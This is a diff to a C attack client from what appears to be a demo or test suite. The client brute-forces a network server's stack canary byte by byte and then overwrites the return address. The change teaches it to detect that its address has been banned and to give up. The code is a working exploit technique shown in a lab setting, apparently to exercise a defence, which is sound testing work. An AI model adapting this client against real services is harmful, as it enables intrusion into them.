@@ -18,12 +18,15 @@
  *
  * If the server restarts (connection refused: a new process, a new canary),
  * or a byte has no value that survives, the bytes recovered so far are
- * stale: start again from byte 1.  Stops at MAX_ATTEMPTS guesses or after
- * MAX_SECONDS.  HINT, N:CANARY, gives canary bytes 1..N to start with (the shortened run
- * of tests/system/40-demo.sh reads the canary from the server's memory to fit its time
- * budget); they are dropped like recovered ones when the server restarts.
+ * stale: start again from byte 1.  A connection request that gets no answer
+ * at all (dropped: this address is banned from the service) is not a
+ * restart; after BANNED_S seconds of nothing but dropped requests the attack
+ * gives up.  Stops at MAX_ATTEMPTS guesses or after MAX_SECONDS.  HINT,
+ * N:CANARY, gives canary bytes 1..N to start with (the shortened run of
+ * tests/system/40-demo.sh reads the canary from the server's memory to fit its
+ * time budget); they are dropped like recovered ones when the server restarts.
  * Prints its progress and, last, one line:
- *   RESULT outcome=pwned|stopped attempts=N crashes=N restarts=N bytes=N max_bytes=N seconds=S canary=HEX
+ *   RESULT outcome=pwned|stopped attempts=N crashes=N restarts=N dropped=N banned=yes|no bytes=N max_bytes=N seconds=S canary=HEX
  * Exit status 0 when control was reached, 1 when stopped.
  */
 #include <arpa/inet.h>
@@ -39,7 +42,10 @@
 #include <time.h>
 #include <unistd.h>
 
-enum reply { R_SURVIVED, R_CRASHED, R_PWNED, R_REFUSED };
+enum reply { R_SURVIVED, R_CRASHED, R_PWNED, R_REFUSED, R_DROPPED };
+
+/* Dropped connection requests for this long: the address is banned. */
+#define BANNED_S 5.0
 
 static struct sockaddr_in addr = { .sin_family = AF_INET };
 
@@ -66,8 +72,11 @@ static enum reply attempt(const unsigned char *payload, uint32_t len)
 	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
 	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv)); /* connect() too */
 	if (connect(fd, (struct sockaddr *)&addr, sizeof(addr))) {
+		/* Refused: nobody listens.  No answer in time: dropped. */
+		enum reply r = errno == ECONNREFUSED ? R_REFUSED : R_DROPPED;
+
 		close(fd);
-		return R_REFUSED;
+		return r;
 	}
 	if (write(fd, &len, sizeof(len)) != sizeof(len) ||
 	    write(fd, payload, len) != (ssize_t)len) {
@@ -91,9 +100,10 @@ static enum reply attempt(const unsigned char *payload, uint32_t len)
 
 int main(int argc, char **argv)
 {
-	unsigned long attempts = 0, crashes = 0, restarts = 0, max_attempts;
+	unsigned long attempts = 0, crashes = 0, restarts = 0, dropped = 0, max_attempts;
 	unsigned long life_attempts = 0, life_crashes = 0; /* at the last restart */
-	double down_at = 0;
+	double down_at = 0, dropped_since = 0;
+	int banned = 0;
 	unsigned char payload[512], canary[8] = { 0 };
 	int known = 1, max_known = 1, refused = 0, pwned = 0;
 	unsigned int canary_off, ret_off, guess = 0;
@@ -158,6 +168,23 @@ int main(int argc, char **argv)
 			len = ret_off + 8;
 		}
 		r = attempt(payload, len);
+		if (r == R_DROPPED) { /* no answer at all: this address is banned */
+			dropped++;
+			if (!dropped_since) {
+				dropped_since = now();
+				printf("[%6.1fs] connection request dropped: no answer in 3 s\n",
+				       now() - start);
+			}
+			if (now() - dropped_since >= BANNED_S) {
+				banned = 1;
+				printf("[%6.1fs] every connection request dropped for %.0f s: this "
+				       "address is banned from the service; giving up\n",
+				       now() - start, now() - dropped_since);
+				break;
+			}
+			continue;
+		}
+		dropped_since = 0;
 		if (r == R_REFUSED) { /* nobody listening: the service is down */
 			if (!refused) {
 				refused = 1;
@@ -220,9 +247,10 @@ int main(int argc, char **argv)
 			guess = 0;
 		}
 	}
-	printf("RESULT outcome=%s attempts=%lu crashes=%lu restarts=%lu bytes=%d max_bytes=%d "
-	       "seconds=%.1f canary=0x", pwned ? "pwned" : "stopped", attempts, crashes, restarts,
-	       known - 1, max_known - 1, now() - start);
+	printf("RESULT outcome=%s attempts=%lu crashes=%lu restarts=%lu dropped=%lu banned=%s "
+	       "bytes=%d max_bytes=%d seconds=%.1f canary=0x", pwned ? "pwned" : "stopped",
+	       attempts, crashes, restarts, dropped, banned ? "yes" : "no", known - 1,
+	       max_known - 1, now() - start);
 	for (int i = 7; i >= 0; i--)
 		printf("%02x", i < known ? canary[i] : 0);
 	printf("\n");
